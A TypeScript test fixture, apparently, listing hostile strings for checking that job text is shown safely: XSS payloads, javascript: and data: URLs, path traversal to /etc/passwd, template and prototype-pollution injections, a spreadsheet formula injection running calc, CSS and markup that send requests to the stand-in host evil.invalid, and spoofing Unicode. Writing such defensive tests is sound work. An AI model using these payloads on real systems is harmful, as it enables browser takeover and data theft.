const RUN = 'window.__pwned=1';
const ELSEWHERE = 'https://evil.invalid/leak';

/**
 * What somebody might write into a job to take over the browser of whoever looks at it. Each would set
 * `__pwned`, or send a request to `evil.invalid`, or break a page, if it were taken for more than text.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // Markup
  `<script>${RUN}</script>`,
  `"><img src=${ELSEWHERE} onerror=${RUN}>`,
  `' autofocus onfocus=${RUN} x='`,
  `</script></style></title></textarea></noscript><script src="${ELSEWHERE}.js"></script>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg><svg onload=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<base href="${ELSEWHERE}/"><meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<style>@import "${ELSEWHERE}.css"; body{background:url(${ELSEWHERE})}</style>`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;`,
  // Addresses
  `javascript:${RUN}//`,
  `data:text/html,<script>opener.__pwned=1</script>`,
  '//evil.invalid/leak',
  '~https://evil.invalid/leak',
  '\\\\evil.invalid\\leak',
  '../../../etc/passwd?x=1&y=2#z',
  '..%2f..%2Fapi/session%3Fx%00%ff%',
  '%3Cscript%3Ewindow.__pwned=1%3C/script%3E',
  // Templates, formats, formulas, names with a meaning
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}} {count} {name} {0}`,
  `=cmd|'/C calc'!A0,"+1+1",%s%n%d $& $1`,
  `}*/ ; } body{display:none} a[href^=h]{background:url("${ELSEWHERE}")} /*`,
  '__proto__',
  'constructor',
  'toString',
  // Characters
  'Ada\u202Egnp.exe\u200B\uFEFF\u00AD',
  'NUL\u0000 bell\u0007 \u001B[31mred\u001B[0m \u0085\u2028\u2029 end',
  'half a pair \uD83D and \uDE00 the other way round',
  `"line
two"\ttab \\ ' ${'`'} 日本語 Iğdır عربي 😀`,
  `long ${'A'.repeat(3_000)} <img src=x onerror=${RUN}>`,
];
